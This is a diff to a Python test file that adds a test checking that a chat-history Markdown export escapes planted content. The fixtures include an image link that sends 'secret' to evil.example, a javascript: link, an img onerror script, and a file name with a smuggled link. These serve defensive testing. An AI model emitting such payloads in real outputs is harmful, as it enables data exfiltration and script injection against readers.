@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 import sqlite3
 import threading
 from contextlib import closing
@@ -95,6 +96,24 @@ def test_list_is_per_collection_and_newest_first(path: Path) -> None:
     assert history.list_chats("nothing") == []
 
 
+def test_markdown_export_cannot_fetch_or_link_anything(path: Path) -> None:
+    """An exported chat is opened in other Markdown viewers: planted links, images and HTML stay text."""
+    history = ChatHistory(path)
+    chat_id = history.create_chat("documents")
+    history.append_message(chat_id, "user", "Summarise ![q](http://evil.example/q.png) <b>now</b>")
+    planted = (
+        "Revenue grew [1]. ![x](https://evil.example/?q=secret) [click](javascript:alert(1)) "
+        "<img src=x onerror=alert(2)> see www.evil.example or https://evil.example/p"
+    )
+    source = {**SOURCES[0], "file_name": "report](http://evil.example).pdf"}
+    history.append_message(chat_id, "assistant", planted, sources=[source], mode="answer")
+    markdown = history.export_markdown(chat_id)
+    # Live would be: an unescaped "](" (link or image), an unescaped "<" (HTML), a whole URL (autolink).
+    for live in (r"(?<!\\)\]\(", r"(?<!\\)<", r"https://evil", r"www\.evil"):
+        assert not re.search(live, markdown), (live, markdown)
+    assert "Revenue grew \\[1\\]." in markdown and "· cited" in markdown
+
+
 def test_delete_removes_chat_and_messages(path: Path) -> None:
     history = ChatHistory(path)
     chat_id = _conversation(history)
@@ -114,12 +133,12 @@ def test_markdown_export_lists_sources_under_each_answer(path: Path) -> None:
     history = ChatHistory(path)
     chat_id = _conversation(history)
     markdown = history.export_markdown(chat_id)
-    first_answer = markdown.index("Two years [1].")
+    first_answer = markdown.index("Two years \\[1\\].")  # brackets escaped: nothing in the text can link
     second_question = markdown.index("And claims?")
     assert markdown.startswith("# How long is the X200 warranty?\n")
-    assert first_answer < markdown.index("- [1] manual.pdf, p. 3") < second_question
-    assert first_answer < markdown.index("- [2] policy.pdf, pp. 1–2") < second_question
-    assert markdown.count("- [2] policy.pdf, pp. 1–2") == 2  # listed again under the second answer
+    assert first_answer < markdown.index("- \\[1\\] manual.pdf, p. 3 · cited\n") < second_question
+    assert first_answer < markdown.index("- \\[2\\] policy.pdf, pp. 1–2\n") < second_question
+    assert markdown.count("- \\[2\\] policy.pdf, pp. 1–2\n") == 2  # listed again under the second answer
     assert "Searched for: What do X200 warranty claims need?" in markdown  # rewritten follow-up shown
     assert "Searched for: How long" not in markdown  # unchanged query not repeated
     assert "best passages below" in markdown[second_question:]
